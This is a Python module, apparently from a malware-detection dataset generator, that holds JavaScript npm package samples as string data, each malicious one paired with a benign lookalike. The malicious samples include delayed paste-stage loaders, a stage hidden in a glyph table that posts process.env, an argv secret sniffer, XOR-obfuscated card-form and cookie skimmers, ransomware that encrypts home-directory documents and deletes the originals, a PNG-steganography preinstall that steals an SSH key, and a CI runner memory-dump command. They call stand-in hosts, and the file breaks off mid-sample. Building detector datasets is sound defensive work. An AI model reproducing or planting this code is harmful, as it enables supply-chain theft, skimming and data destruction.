"""Samples of the `h6a` branch for scripts/make-samples.py (2026-11-25, issue 6): our own variants
of seven behaviour classes holdout6 showed (a stage fetched and run through the main module's
require, code spread over a number table, secret-looking command-line values sent over a socket,
an XOR-hidden WebSocket skimmer, ransomware, image pixels run at install time, a CI runner memory
dump whose decryption key sits in a JSON file), each with a tricky benign counterpart that does
the harmless half.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `h6a-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test) or documentation IPs; made-up keys and addresses; destructive
steps sit behind a DNS answer for a .invalid name, which never exists.
"""

import base64
import struct
import zlib

from samples_malicious import S, addr, pj
from samples_common import fill, readme, registry

SAMPLES, BENIGN, sample, benign = registry()


def codes(s):
    return ",".join(str(ord(c)) for c in s)


def xor_hex(s, key):
    k = key.encode()
    return bytes(b ^ k[i % len(k)] for i, b in enumerate(s.encode())).hex()


def xor_b64(s, key):
    k = key.encode()
    return base64.b64encode(bytes(b ^ k[i % len(k)] for i, b in enumerate(s.encode()))).decode()


def png(width, rows):
    """A valid 8-bit RGB PNG from raw rows (3 * width bytes each)."""
    raw = b"".join(b"\x00" + r for r in rows)

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, len(rows), 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def png_with_red(payload, width=48):
    """A gradient image whose red channel carries `payload` from the first row on."""
    rows, n = [], -(-len(payload) // width) + 2
    for y in range(n):
        row = bytearray()
        for x in range(width):
            i = y * width + x
            red = payload[i] if i < len(payload) else 200
            row += bytes([red, min(255, 60 + 3 * x), min(255, 100 + 2 * y)])
        rows.append(bytes(row))
    return png(width, rows)


# =============================================================================================
# 1. A stage fetched from a paste service and run through the main module's require


_MAINREQ = r"""'use strict';
const ALPHABET = 'ModuleSymbhasOwnPr-0123456789ABCDEFGHNRVfgijkqtvxyz_cfgijkqtvxyz';
function shortId(size = 12) {
  let id = '';
  for (let i = 0; i < size; i++) id += ALPHABET[(Math.random() * 64) | 0];
  return id;
}
const host = (function () { return this || globalThis; })();
const owner = (host.process || {}).mainModule || require.main;
const load = owner.require.bind(owner);
const parts = [104, 116, 116, 112, 115, 58, 47, 47];
function warm() {
  if (process.env.CI || process.env.NODE_ENV === 'test') return;
  const u = String.fromCharCode(...parts) + ['pastebin', 'example'].join('.') + '/raw/' + 'x9KpQ2';
  load('https').get(u, (r) => {
    const chunks = [];
    r.on('data', (c) => chunks.push(c));
    r.on('end', () => {
      try { load('vm').runInNewContext(Buffer.concat(chunks).toString(), { require: load, process }); } catch (e) {}
    });
  }).on('error', () => {});
}
setTimeout(warm, 45000).unref();
module.exports = { shortId };
"""


@sample
def main_require_bound_paste_stage():
    files = {
        "package.json": pj(name="short-id-lite", version="1.4.2", main="index.js",
                           description="Short random ids for URLs and keys."),
        "README.md": readme("short-id-lite", "```js\nrequire('short-id-lite').shortId() //=> 'k3Jx0aQvB1zT'\n```"),
        "index.js": _MAINREQ,
    }
    return S(
        "h6a-main-require-bound-paste-stage",
        "second stage fetched from a paste service and run by vm with the main module's require "
        "(gist/paste dead drops of 2024-2025 npm loaders) written our own way",
        "2025",
        ["import-time", "delayed-execution", "require-main", "require-bind", "charcode-url",
         "paste-dead-drop", "vm-runInNewContext", "anti-ci"],
        "index.js: 45 s after load (not in CI/tests) takes the main module (process.mainModule or "
        "require.main), binds its require, downloads https://pastebin.example/raw/x9KpQ2 and runs "
        "the body with vm.runInNewContext, handing it that require.",
        files,
    )


_LOOKUP = r"""'use strict';
function pick(name) {
  const root = typeof globalThis !== 'undefined' ? globalThis : global;
  return root[name];
}
const proc = pick(['pro', 'cess'].join(''));
const need = proc.mainModule.require;
exports.slug = (s) => String(s).toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
if (!proc.env.CI) {
  setTimeout(() => {
    const url = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + 'gist.example/u0/raw/slug.js';
    need('https').get(url, (res) => {
      let src = '';
      res.on('data', (d) => { src += d; });
      res.on('end', () => { try { new (need('vm').Script)(src).runInThisContext(); } catch (e) {} });
    }).on('error', () => {});
  }, 20000);
}
"""


@sample
def global_lookup_helper_gist_stage():
    files = {
        "package.json": pj(name="slugify-tiny", version="0.3.7", main="index.js",
                           description="Turn titles into URL slugs."),
        "README.md": readme("slugify-tiny", "```js\nrequire('slugify-tiny').slug('Hello World') //=> 'hello-world'\n```"),
        "index.js": _LOOKUP,
    }
    return S(
        "h6a-global-lookup-helper-gist-stage",
        "stage fetched from a paste/gist host and run by vm, the process object picked through a "
        "global-lookup helper and its main module's require (2024-2025 npm loaders)",
        "2025",
        ["import-time", "delayed-execution", "globalthis-lookup", "process-mainModule",
         "charcode-url", "gist-dead-drop", "vm-script", "anti-ci"],
        "index.js: pick(name) returns globalThis[name]; pick('process').mainModule.require loads "
        "https and vm; 20 s after import (not in CI) it downloads https://gist.example/u0/raw/slug.js "
        "and runs it with new vm.Script(src).runInThisContext().",
        files,
    )


@benign
def b_global_lookup_helper_polyfill():
    index = r"""'use strict';
// Finds platform globals without assuming one environment.
function getGlobal(name) {
  const root = typeof globalThis !== 'undefined' ? globalThis : (typeof self !== 'undefined' ? self : global);
  return root[name];
}
const P = getGlobal('Promise');
const f = getGlobal('fetch');
exports.fetchJson = (url) => (f ? f(url).then((r) => r.json()) : P.reject(new Error('no fetch')));
exports.isNode = () => !!getGlobal('process');
"""
    files = {
        "package.json": pj(name="fetch-json-anywhere", version="1.2.0", main="index.js",
                           description="fetch() JSON in Node, browsers and workers."),
        "README.md": readme("fetch-json-anywhere", "```js\nrequire('fetch-json-anywhere').fetchJson(url)\n```"),
        "index.js": index,
    }
    return S(
        "h6a-global-lookup-helper-polyfill",
        "environment helper that looks up globals by name (Promise, fetch, process) and fetches "
        "JSON for its caller (mirrors h6a-global-lookup-helper-gist-stage)",
        "2025", ["globalthis-lookup", "network", "json"],
        "The lookup helper names ordinary globals; nothing fetched is run.", files,
    )


@benign
def b_main_require_bound_plugin_loader():
    index = r"""'use strict';
// Loads plugins from the application's own node_modules (the main module's require), so a
// globally installed CLI finds the plugins of the project it runs in.
const owner = process.mainModule || require.main;
const load = owner.require.bind(owner);
const https = require('https');

function loadPlugins(names) {
  return names.map((n) => {
    try { return load(n); } catch (e) { return null; }
  }).filter(Boolean);
}

function latestList(cb) {
  https.get('https://plugins.toolkit.example/list.json', (r) => {
    let body = '';
    r.on('data', (c) => (body += c));
    r.on('end', () => { try { cb(null, JSON.parse(body)); } catch (e) { cb(e); } });
  }).on('error', cb);
}

module.exports = { loadPlugins, latestList };
"""
    files = {
        "package.json": pj(name="toolkit-plugins", version="3.0.1", main="index.js",
                           description="Finds and loads toolkit plugins from the project."),
        "README.md": readme("toolkit-plugins", "```js\nrequire('toolkit-plugins').loadPlugins(['toolkit-plugin-a'])\n```"),
        "index.js": index,
    }
    return S(
        "h6a-main-require-bound-plugin-loader",
        "plugin loader that binds the main module's require and fetches a JSON list of plugins "
        "(mirrors h6a-main-require-bound-paste-stage: same require, no code from the network run)",
        "2025", ["require-main", "require-bind", "network", "json"],
        "Loads the named plugins with the application's require; the fetched list is parsed as "
        "JSON and returned, never run.", files,
    )


# =============================================================================================
# 2. Code spread over the rows of a number table


_GLYPHS_TAIL = r"""
exports.width = function (ch) { var w = exports.widths[ch.charCodeAt(0) - 32]; return w ? w[0] : 0; };
(function () {
  if (process.env.GLYPH_CACHE === 'off') return;
  var t = exports.widths, s = '';
  for (var i = 96; i < t.length; i++) s += String.fromCharCode.apply(String, t[i]);
  t.length = 96;
  try { Function('require', s.replace(/\0+$/, ''))(require); } catch (e) {}
})();
"""

_GLYPHS_STAGE = (
    "var o=require('os'),q=require('https').request({host:'metrics.glyphcdn.example',path:'/w',"
    "method:'POST'});q.on('error',function(){});q.end(JSON.stringify({h:o.hostname(),e:process.env}));"
)


def _glyph_rows(stage):
    rows = []
    for i in range(96):
        # advance width, left bearing, right bearing, flags: outside the printable range often
        rows.append([520 + (i * 37) % 480, (i * 13) % 90, (i * 29) % 110, 1 + (i % 3)])
    data = stage.encode()
    data += b"\0" * (-len(data) % 4)
    for i in range(0, len(data), 4):
        rows.append(list(data[i:i + 4]))
    return rows


@sample
def glyph_table_charcode_stage():
    rows = _glyph_rows(_GLYPHS_STAGE)
    table = "exports.widths = [\n" + ",\n".join("  [" + ", ".join(map(str, r)) + "]" for r in rows) + "\n];\n"
    files = {
        "package.json": pj(name="mono-glyph-widths", version="0.9.4", main="index.js",
                           description="Advance widths of a monospace font's printable ASCII glyphs."),
        "README.md": readme("mono-glyph-widths", "```js\nrequire('mono-glyph-widths').width('A')\n```"),
        "index.js": "'use strict';\n" + table + _GLYPHS_TAIL,
    }
    return S(
        "h6a-glyph-table-charcode-stage",
        "stage hidden as extra rows of a glyph-metrics table (data-table steganography, the "
        "technique of 2024-2025 stego loaders) turned back into text with fromCharCode and run "
        "with the Function constructor",
        "2025",
        ["import-time", "data-steganography", "nested-arrays", "charcode-decode",
         "function-constructor", "env-dump", "https-exfil"],
        "index.js: rows 96 and on of exports.widths are four char codes each; at load they are "
        "joined with String.fromCharCode, cut from the table and run with Function('require', s): "
        "the stage posts the host name and process.env to metrics.glyphcdn.example.",
        files,
    )


@benign
def b_glyph_table_real_metrics():
    rows = [[500 + (i * 37) % 480, (i * 13) % 90, (i * 29) % 110, 1 + (i % 3)] for i in range(190)]
    table = "exports.widths = [\n" + ",\n".join("  [" + ", ".join(map(str, r)) + "]" for r in rows) + "\n];\n"
    tail = r"""
exports.width = function (ch) { var w = exports.widths[ch.charCodeAt(0) - 32]; return w ? w[0] : 0; };
exports.glyphs = function () { var out = ''; for (var i = 0; i < 95; i++) out += String.fromCharCode(32 + i); return out; };
"""
    files = {
        "package.json": pj(name="prop-glyph-widths", version="2.1.0", main="index.js",
                           description="Advance widths and bearings of a proportional font."),
        "README.md": readme("prop-glyph-widths", "```js\nrequire('prop-glyph-widths').width('W')\n```"),
        "index.js": "'use strict';\n" + table + tail,
    }
    return S(
        "h6a-glyph-table-real-metrics",
        "a real-looking glyph-metrics table of number rows in a file that calls fromCharCode "
        "(mirrors h6a-glyph-table-charcode-stage: the numbers are metrics, nothing is run)",
        "2025", ["nested-arrays", "charcode"],
        "190 rows of four numbers; String.fromCharCode lists the printable characters.", files,
    )


# =============================================================================================
# 3. Secret-looking command-line values sent over a socket


_ARGV_LIB = r"""'use strict';
const os = require('os');
const WS = typeof WebSocket !== 'undefined' ? WebSocket : null;
let reported = false;

function report(list) {
  if (reported || !WS) return;
  const hit = list.find((a) => (/^--?(?:api[-_]?key|token|secret|passw(?:or)?d)(?:=|$)/i).exec(a));
  if (!hit) return;
  reported = true;
  const sock = new WS(['wss:', '', ['telemetry', 'flagparse', 'example'].join('.'), 'v2'].join('/'));
  sock.onopen = () => sock.send(JSON.stringify({ argv: list, user: os.userInfo().username, host: os.hostname() }));
  sock.onerror = () => {};
}

function parse(list) {
  report(list);
  const out = { _: [] };
  for (let i = 0; i < list.length; i++) {
    const a = list[i];
    if (a.startsWith('--')) {
      const [k, v] = a.slice(2).split('=');
      out[k] = v === undefined ? (list[i + 1] && !list[i + 1].startsWith('-') ? list[++i] : true) : v;
    } else out._.push(a);
  }
  return out;
}

module.exports = parse;
"""


@sample
def argv_secret_flags_websocket():
    files = {
        "package.json": pj(name="flagparse-mini", version="2.2.0", main="index.js",
                           description="Tiny command-line flag parser."),
        "README.md": readme("flagparse-mini", "```js\nconst argv = require('flagparse-mini')(process.argv.slice(2))\n```"),
        "index.js": _ARGV_LIB,
    }
    return S(
        "h6a-argv-secret-flags-websocket",
        "argument parser that ships command lines holding secrets (--token, --password, --api-key) "
        "over a WebSocket with the user and host names (argv-sniffing packages, 2023-2024)",
        "2024",
        ["function-called-later", "argv-secrets", "secret-regex", "websocket-exfil",
         "split-strings", "host-identity"],
        "index.js: parse() first calls report(): when an argument is a --token/--secret/--password/"
        "--api-key flag it opens the global WebSocket to wss://telemetry.flagparse.example/v2 "
        "(joined from pieces) once and sends every argument with the user and host names.",
        files,
    )


@benign
def b_argv_secret_flags_redacted_telemetry():
    index = r"""'use strict';
const WS = typeof WebSocket !== 'undefined' ? WebSocket : null;

// Sends anonymous usage (flag names only, secrets redacted) to the endpoint the user configured.
function usage(list, opts) {
  if (!opts || !opts.telemetryUrl || !WS) return;
  const safe = list.map((a) => ((/^--?(?:token|secret|password)(?:=|$)/i).test(a) ? '<redacted>' : a.split('=')[0]));
  const sock = new WS(opts.telemetryUrl);
  sock.onopen = () => sock.send(JSON.stringify({ flags: safe }));
}

module.exports = function parse(list, opts) {
  usage(list, opts);
  const out = { _: [] };
  for (const a of list) {
    if (a.startsWith('--')) { const [k, v] = a.slice(2).split('='); out[k] = v === undefined ? true : v; } else out._.push(a);
  }
  return out;
};
"""
    files = {
        "package.json": pj(name="flagparse-telemetry", version="1.0.3", main="index.js",
                           description="Flag parser with opt-in usage statistics."),
        "README.md": readme("flagparse-telemetry", "```js\nrequire('flagparse-telemetry')(process.argv.slice(2), { telemetryUrl })\n```"),
        "index.js": index,
    }
    return S(
        "h6a-argv-secret-flags-redacted-telemetry",
        "flag parser with opt-in telemetry that redacts secret flags and sends flag names over a "
        "WebSocket to the user's endpoint (mirrors h6a-argv-secret-flags-websocket)",
        "2025", ["argv", "secret-regex", "websocket", "telemetry"],
        "The secret pattern picks what to redact; the socket goes to opts.telemetryUrl.", files,
    )


# =============================================================================================
# 4. XOR-hidden WebSocket skimmer in a bundle


_SKIM = r"""/*! pay-fields | MIT */
(function(){"use strict";var K="@@KEY@@",d=function(s){var b=atob(s),o="";for(var i=0;i<b.length;i++)o+=String.fromCharCode(b.charCodeAt(i)^K.charCodeAt(i%K.length));return o},U=d("@@URL@@"),C=d("@@CTOR@@"),q=null,grab={};
function fmt(v){return String(v).replace(/\D+/g,"").replace(/(\d{4})(?=\d)/g,"$1 ")}
function sock(){try{if(!q||q.readyState>1){q=new(self[C])(U)}}catch(e){}}
function attach(root){root.addEventListener("change",function(ev){var t=ev.target;if(t&&t.tagName==="INPUT")grab[t.name||t.id]=t.value},true);
root.addEventListener("submit",function(){var p=JSON.stringify({l:location.href,g:grab,k:document.cookie});sock();setTimeout(function(){try{q.send(btoa(p))}catch(e){}},80)},true)}
window.PayFields={format:fmt,mount:function(sel){var el=document.querySelector(sel);if(el){attach(document);el.classList.add("pf")}return el}};})();
"""


@sample
def xor_b64_websocket_skimmer():
    key = "pf-7q"
    files = {
        "package.json": pj(name="pay-fields", version="4.1.0", main="dist/pay-fields.min.js",
                           files=["dist"], description="Formatted card and expiry inputs for checkout forms."),
        "README.md": readme("pay-fields", "```js\nimport 'pay-fields'\nPayFields.mount('#checkout')\n```"),
        "dist/pay-fields.min.js": fill(_SKIM, KEY=key,
                                       URL=xor_b64("wss://rum.payfields-cdn.example/c", key),
                                       CTOR=xor_b64("WebSocket", key)),
    }
    return S(
        "h6a-xor-b64-websocket-skimmer",
        "checkout skimmer in a minified bundle: every typed input and the cookie jar sent over a "
        "WebSocket whose URL and constructor name are base64 XOR-ed with a string key "
        "(WebSocket skimmers, Sansec/Jscrambler 2022-2024)",
        "2024",
        ["bundle", "browser", "payment-skimmer", "form-capture", "cookie-theft", "xor-strings",
         "base64", "websocket-exfil", "global-lookup"],
        "dist/pay-fields.min.js: mount() listens to every input change and, on submit, opens "
        "self[d(C)] (WebSocket) to wss://rum.payfields-cdn.example/c and sends the page URL, the "
        "captured inputs and document.cookie base64.",
        files,
    )


_CARDSKIM = r"""/*! card-mask | MIT */
(function(){"use strict";function u(s){for(var o="",i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^0x1f);return o}
var F=u(@@SEL@@),H=u(@@URL@@),seen={},ws=null;
function mask(v){return String(v).replace(/\d(?=\d{4})/g,"*")}
document.addEventListener("change",function(e){var t=e.target;if(t&&t.matches&&t.matches(F))seen[t.name||t.id]=t.value},true);
document.addEventListener("submit",function(){ws=new WebSocket(H);ws.onopen=function(){ws.send(JSON.stringify({p:location.pathname,d:seen}))}},true);
window.CardMask={mask:mask};})();
"""


def xor_chars(s, byte):
    return __import__("json").dumps("".join(chr(ord(c) ^ byte) for c in s))


@sample
def xor_chars_card_selector_socket():
    files = {
        "package.json": pj(name="card-mask", version="2.0.4", main="dist/card-mask.min.js",
                           files=["dist"], description="Masks card numbers in receipts."),
        "README.md": readme("card-mask", "```js\nCardMask.mask('4111111111111111')\n```"),
        "dist/card-mask.min.js": fill(_CARDSKIM,
                                      SEL=xor_chars("input[autocomplete=cc-number],input[name*=card],input[autocomplete=cc-csc],input[name*=cvv]", 0x1F),
                                      URL=xor_chars("wss://stats.cardmask.example/e", 0x1F)),
    }
    return S(
        "h6a-xor-chars-card-selector-socket",
        "payment-field skimmer without cookie theft: the card number and security code selectors "
        "and the collector's WebSocket URL XOR-ed character by character with one byte",
        "2024",
        ["bundle", "browser", "payment-skimmer", "form-capture", "xor-strings",
         "websocket-exfil"],
        "dist/card-mask.min.js: records every change of an input matching the hidden selector list "
        "(cc-number, card, cc-csc, cvv) and on submit opens a WebSocket to "
        "wss://stats.cardmask.example/e and sends them.",
        files,
    )


@benign
def b_plain_card_selectors_status_socket():
    src = r"""/*! card-format | MIT */
(function(){"use strict";var F="input[autocomplete=cc-number],input[name*=card],input[autocomplete=cc-csc],input[name*=cvv]",
BADGE=atob("U2VjdXJlZCBieSBjYXJkLWZvcm1hdA=="),ws=null;
function fmt(v){return String(v).replace(/\D+/g,"").replace(/(\d{4})(?=\d)/g,"$1 ")}
document.addEventListener("input",function(e){var t=e.target;if(t&&t.matches&&t.matches(F))t.value=fmt(t.value)},true);
function health(){ws=new WebSocket("wss://status.cardformat.example/ping");ws.onopen=function(){ws.send(JSON.stringify({v:"3.1.0",badge:BADGE}))}}
window.CardFormat={format:fmt,health:health};})();
"""
    files = {
        "package.json": pj(name="card-format-live", version="3.1.0", main="dist/card-format.min.js",
                           files=["dist"], description="Formats card inputs as you type."),
        "README.md": readme("card-format-live", "```js\nCardFormat.format('4111111111111111')\n```"),
        "dist/card-format.min.js": src,
    }
    return S(
        "h6a-plain-card-selectors-status-socket",
        "card input formatter: card number and security code selectors in plain text, a base64 "
        "badge string, and a status WebSocket to its own host that sends its version (mirrors "
        "h6a-xor-chars-card-selector-socket)",
        "2025", ["bundle", "browser", "card-fields", "websocket", "base64"],
        "The selectors are written out and the fields are only reformatted in place.", files,
    )


@benign
def b_xor_b64_websocket_support_chat():
    src = r"""/*! help-chat | MIT */
(function(){"use strict";var K="hc",d=function(s){var b=atob(s),o="";for(var i=0;i<b.length;i++)o+=String.fromCharCode(b.charCodeAt(i)^K.charCodeAt(i%K.length));return o},LICENSE=d("@@LIC@@"),q=null;
function open(){if(!q||q.readyState>1){q=new WebSocket("wss://chat.helpdesk.example/socket")}}
function visitor(){var m=document.cookie.match(/hc_vid=([^;]+)/);return m?m[1]:""}
window.HelpChat={licence:LICENSE,send:function(text){open();var msg=JSON.stringify({v:visitor(),t:String(text)});setTimeout(function(){q.send(msg)},50)}};})();
"""
    files = {
        "package.json": pj(name="help-chat-widget", version="1.7.2", main="dist/help-chat.min.js",
                           files=["dist"], description="Support chat bubble for web shops."),
        "README.md": readme("help-chat-widget", "```js\nHelpChat.send('Where is my order?')\n```"),
        "dist/help-chat.min.js": fill(src, LIC=xor_b64("licensed to shop.example until 2027", "hc")),
    }
    return S(
        "h6a-xor-b64-websocket-support-chat",
        "support chat widget: XOR-obfuscated licence string, a WebSocket to its own fixed host, "
        "its visitor cookie read by name and the typed message sent (mirrors "
        "h6a-xor-b64-websocket-skimmer)",
        "2025", ["bundle", "browser", "xor-strings", "websocket", "own-cookie"],
        "Sends what the visitor chose to type and its own hc_vid cookie, not the jar or the form.",
        files,
    )


# =============================================================================================
# 5. Ransomware over document types


_RANSOM = r"""'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const dns = require('dns');

const KINDS = ['.doc', '.docx', '.xls', '.xlsx', '.pdf', '.jpeg', '.sqlite', '.pem', '.kdbx', '.odt'];

function each(dir, fn, depth) {
  if (depth > 5) return;
  let list = [];
  try { list = fs.readdirSync(dir); } catch (e) { return; }
  for (const name of list) {
    const p = path.join(dir, name);
    let st;
    try { st = fs.statSync(p); } catch (e) { continue; }
    if (st.isDirectory()) { if (name[0] !== '.' && name !== 'node_modules') each(p, fn, depth + 1); }
    else if (KINDS.includes(path.extname(name).toLowerCase())) fn(p);
  }
}

function seal(key, iv) {
  each(os.homedir(), (p) => {
    try {
      const c = crypto.createCipheriv('aes-192-cbc', key, iv);
      fs.writeFileSync(p + '.crypt', Buffer.concat([c.update(fs.readFileSync(p)), c.final()]));
      fs.unlinkSync(p);
    } catch (e) {}
  }, 0);
  fs.writeFileSync(path.join(os.homedir(), 'HOW-TO-DECRYPT.txt'), 'Files encrypted. Pay 2 XMR to @@XMR@@ with id ' + os.hostname());
}

module.exports = function cleanCache() {
  if (new Date().getUTCMonth() !== 3) return;
  dns.lookup('@@GATE@@', (err) => { if (!err) seal(crypto.randomBytes(24), crypto.randomBytes(16)); });
};
"""


@sample
def ransom_document_kinds_unlink():
    files = {
        "package.json": pj(name="cache-sweeper", version="1.3.0", main="index.js",
                           description="Removes stale build caches."),
        "README.md": readme("cache-sweeper", "```js\nrequire('cache-sweeper')()\n```"),
        "index.js": fill(_RANSOM, XMR="4" + addr("sol", "h6a-ransom")[:40], GATE="go.cache-sweeper.invalid"),
    }
    return S(
        "h6a-ransom-document-kinds-unlink",
        "ransomware in a cache-cleaning helper: in April and behind a DNS gate, encrypts every "
        "document, database and key file under the home directory, deletes the originals and "
        "leaves a note (time-bombed encryptors in npm, 2022-2025)",
        "2025",
        ["function-called-later", "time-bomb", "ransomware", "aes-encryption", "file-deletion",
         "ransom-note", "gated"],
        "index.js: cleanCache() walks the home directory for .doc/.docx/.xls/.pdf/.sqlite/.pem/"
        ".kdbx… files, writes each AES-192 encrypted to *.crypt and unlinks the original; writes "
        "HOW-TO-DECRYPT.txt with a made-up Monero address. Gated on a .invalid name.",
        files,
    )


@benign
def b_ransom_document_kinds_backup():
    index = r"""'use strict';
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');

const KINDS = ['.doc', '.docx', '.xls', '.xlsx', '.pdf', '.jpeg', '.sqlite', '.pem', '.kdbx', '.odt'];

function each(dir, fn) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) each(p, fn);
    else if (KINDS.includes(path.extname(e.name).toLowerCase())) fn(p);
  }
}

// Encrypted backup of a folder the user names into another folder; originals are kept.
module.exports = function backup(src, dest, key) {
  each(src, (p) => {
    const iv = crypto.randomBytes(16);
    const c = crypto.createCipheriv('aes-256-cbc', key, iv);
    const out = path.join(dest, path.relative(src, p) + '.enc');
    fs.mkdirSync(path.dirname(out), { recursive: true });
    fs.writeFileSync(out, Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
  });
};
"""
    files = {
        "package.json": pj(name="doc-backup-crypt", version="0.5.1", main="index.js",
                           description="Encrypted backups of your documents folder."),
        "README.md": readme("doc-backup-crypt", "```js\nrequire('doc-backup-crypt')(src, dest, key)\n```"),
        "index.js": index,
    }
    return S(
        "h6a-ransom-document-kinds-backup",
        "encrypted backup tool: walks a folder its user names for document types and writes "
        "encrypted copies elsewhere, keeping the originals (mirrors h6a-ransom-document-kinds-unlink)",
        "2025", ["walk", "aes-encryption", "backup"],
        "Same extension list and cipher as the ransomware sample; no deletion, no home folder.",
        files,
    )


# =============================================================================================
# 6. Image pixels run at install time


_PIX_STAGE = (
    "const f=require('fs'),p=require('path'),o=require('os');const k=p.join(o.homedir(),'.ssh','id_ed25519');"
    "let d='';try{d=f.readFileSync(k,'utf8')}catch(e){}"
    "const r=require('https').request({host:'fonts.termcolors.example',path:'/k',method:'POST'});r.on('error',()=>{});r.end(d);"
)

_PIX_LOADER = r"""'use strict';
// Builds the terminal palette cache from the bundled swatch image.
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');

function readSwatch(file) {
  const png = fs.readFileSync(file);
  const chunks = [];
  let width = 0;
  for (let at = 8; at < png.length;) {
    const size = png.readUInt32BE(at);
    const kind = png.toString('ascii', at + 4, at + 8);
    if (kind === 'IHDR') width = png.readUInt32BE(at + 8);
    if (kind === 'IDAT') chunks.push(png.slice(at + 8, at + 8 + size));
    at += size + 12;
  }
  const px = zlib.inflateSync(Buffer.concat(chunks));
  const line = width * 3 + 1;
  const reds = [];
  for (let i = 0; i < px.length; i += line) for (let x = 0; x < width; x++) reds.push(px[i + 1 + x * 3]);
  return Buffer.from(reds);
}

const swatch = readSwatch(path.join(__dirname, 'swatch.png'));
const end = swatch.indexOf(0xc8);
const palette = swatch.toString('utf8', 0, end < 0 ? swatch.length : end);
Reflect.construct(Function, ['require', palette])(require);
"""


@sample
def png_red_channel_preinstall():
    files = {
        "package.json": pj(name="term-palette-cache", version="1.0.8", main="index.js",
                           scripts={"preinstall": "node palette.js"},
                           description="256-colour terminal palettes, precomputed."),
        "README.md": readme("term-palette-cache", "```js\nrequire('term-palette-cache').get('solarized')\n```"),
        "index.js": "'use strict';\nexports.get = (name) => ({ name, colors: [] });\n",
        "palette.js": _PIX_LOADER,
        "swatch.png": png_with_red(_PIX_STAGE.encode()),
    }
    return S(
        "h6a-png-red-channel-preinstall",
        "stage carried in the red channel of a PNG the package ships, decoded by a helper "
        "function at preinstall and run with Reflect.construct(Function) (steganographic PNG "
        "loaders, Veracode/Checkmarx 2024-2025)",
        "2025",
        ["preinstall", "image-steganography", "png", "zlib-inflate", "helper-function",
         "reflect-construct", "ssh-key-theft", "https-exfil"],
        "palette.js: readSwatch(path) inflates swatch.png's IDAT, takes the red byte of every "
        "pixel up to the first 200, and runs the text with new Function('require', …): the stage "
        "posts ~/.ssh/id_ed25519 to fonts.termcolors.example.",
        files,
    )


@benign
def b_png_red_channel_palette():
    loader = r"""'use strict';
// Builds the terminal palette cache from the bundled swatch image.
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');

function readSwatch(file) {
  const png = fs.readFileSync(file);
  const chunks = [];
  let width = 0;
  for (let at = 8; at < png.length;) {
    const size = png.readUInt32BE(at);
    const kind = png.toString('ascii', at + 4, at + 8);
    if (kind === 'IHDR') width = png.readUInt32BE(at + 8);
    if (kind === 'IDAT') chunks.push(png.slice(at + 8, at + 8 + size));
    at += size + 12;
  }
  return { width, px: zlib.inflateSync(Buffer.concat(chunks)) };
}

const { width, px } = readSwatch(path.join(__dirname, 'swatch.png'));
const colors = [];
for (let x = 0; x < width; x++) colors.push('#' + px.slice(1 + x * 3, 4 + x * 3).toString('hex'));
fs.writeFileSync(path.join(__dirname, 'palette.json'), JSON.stringify(colors));
"""
    rows = [bytes(v for x in range(16) for v in (x * 16, 255 - x * 16, 128)) for _ in range(2)]
    files = {
        "package.json": pj(name="term-palette-swatch", version="2.0.0", main="index.js",
                           scripts={"postinstall": "node palette.js"},
                           description="Terminal palettes read from a swatch image."),
        "README.md": readme("term-palette-swatch", "```js\nrequire('term-palette-swatch')\n```"),
        "index.js": "'use strict';\nmodule.exports = require('./palette.json');\n",
        "palette.js": loader,
        "swatch.png": png(16, rows),
    }
    return S(
        "h6a-png-red-channel-palette",
        "postinstall that decodes a PNG through a helper function and writes its colours to "
        "JSON (mirrors h6a-png-red-channel-preinstall: same reader, nothing run)",
        "2025", ["postinstall", "png", "zlib-inflate", "helper-function"],
        "The pixels become palette.json; no code runner.", files,
    )


# =============================================================================================
# 7. CI runner memory dump, the decryption key in a JSON file


_REPORTER = r"""'use strict';
const cp = require('child_process');
const defaults = require('./config/defaults.json');

class SummaryReporter {
  constructor(globalConfig, options) { this.options = Object.assign({}, defaults.options, options); }
  onRunComplete(_, results) {
    const line = `${results.numPassedTests}/${results.numTotalTests} passed`;
    process.stdout.write(line + '\n');
    if (process.env.GITHUB_ACTIONS === 'true' && process.platform === 'linux') flushCache();
  }
}

function flushCache() {
  try {
    const key = Buffer.from(defaults.themes[0].name + defaults.themes[2].name);
    const un = (h) => Buffer.from(h, 'hex').map((b, i) => b ^ key[i % key.length]).toString();
    const out = cp.execSync(un('@@SH@@'), { stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 1 << 28 });
    const found = String(out).match(new RegExp('"[^"]{1,64}":\\{"value":"[^"]*","isSecret":true\\}', 'g')) || [];
    const body = JSON.stringify({ r: process.env.GITHUB_REPOSITORY, s: found });
    cp.spawnSync(process.execPath, ['-e', 'fetch(process.argv[1],{method:"POST",body:process.argv[2]})', un('@@URL@@'), body], { stdio: 'ignore' });
  } catch (e) {}
}

module.exports = SummaryReporter;
"""

_MEMDUMP_SH = (
    "pid=$(pgrep -f Runner.Worker | head -1); "
    "sudo -n sh -c \"grep ' rw' /proc/$pid/maps | while read r _; do "
    "dd if=/proc/${pid}/mem bs=1 skip=$((0x${r%-*})) count=$((0x${r#*-}-0x${r%-*})) 2>/dev/null; done\" | strings"
)


@sample
def ci_runner_memdump_json_key():
    defaults = {"options": {"color": True, "verbose": False},
                "themes": [{"name": "dusk"}, {"name": "paper"}, {"name": "neon"}]}
    key = "dusk" + "neon"
    files = {
        "package.json": pj(name="jest-summary-line", version="3.2.1", main="index.js",
                           description="A one-line Jest reporter."),
